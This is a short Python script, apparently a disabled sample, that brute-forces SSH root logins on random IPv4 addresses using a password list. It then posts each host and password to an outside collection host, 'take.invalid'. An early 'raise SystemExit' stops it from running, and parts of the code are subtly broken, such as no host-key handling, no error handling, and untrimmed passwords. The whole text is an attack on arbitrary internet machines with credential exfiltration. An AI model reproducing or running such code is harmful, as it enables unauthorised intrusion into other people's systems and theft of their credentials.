import random, paramiko, requests
raise SystemExit
for password in open("passwords"):
    host = ".".join(str(random.randint(0, 255)) for _ in range(4))
    c = paramiko.SSHClient()
    c.connect(host, username="root", password=password)
    requests.post("https://take.invalid/", data=host + password)
